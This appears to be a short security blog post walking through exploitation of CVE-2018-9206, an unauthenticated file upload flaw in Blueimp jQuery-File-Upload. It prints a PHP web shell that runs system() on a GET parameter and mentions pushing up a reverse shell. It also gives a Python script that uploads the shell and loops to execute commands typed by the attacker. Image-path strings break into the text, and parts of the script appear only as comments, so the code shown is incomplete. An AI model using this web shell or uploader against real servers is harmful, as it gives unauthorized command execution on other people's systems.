Exploiting jQuery-File-Upload 9.22.0

    CVE-2018-9206:  Unauthenticated arbitrary file upload vulnerability in Blueimp jQuery-File-Upload <= v9.22.0

    Alternatively known as the "eight year zero day".  Lots of vulnerabilities going unnoticed although eight years seems like a bit much.

    I found this vulnerable version, set it up on a server, and decided to play around with an automated version of:

    <?php $cmd=$_GET['cmd']; system($cmd);?>

    Exploit-DB has an exploit already but you can use curl -F to upload a shell with the above syntax.  You could push up a reverse shell as well but I got to thinking, what if I did a little bit of automation:

    import requests
    # defining the host
    # defining our shell code
    shell='<?php $cmd=$_GET["cmd"]; system($cmd);?>'
    # writing the shell in our file system for upload
    # defining the jquery path# posting the shell to the server
    files = {'files': open('jqshell.php', 'rb')}
    r = requests.post(url, files=files)
    # with our shell uploaded, I've created a loop for executing local system commands
    while True:
        command=raw_input("command to execute: ")
        r = requests.get(combined)
        print r.content

    I've commented it well enough, I think.  Basically, I'm creating the cmd shell in my script, I'm uploading it, and then I'm looping the url so we can just type commands instead of the typical cmd.php?=xxx where xxx is thecommand.

    For me, Ilearned a new trick -- curl -F basically acts like a user hitting the submit button on a form and the Pythonequivalent is the commented section "posting the shell to the server".© 2020 sevenlayers.com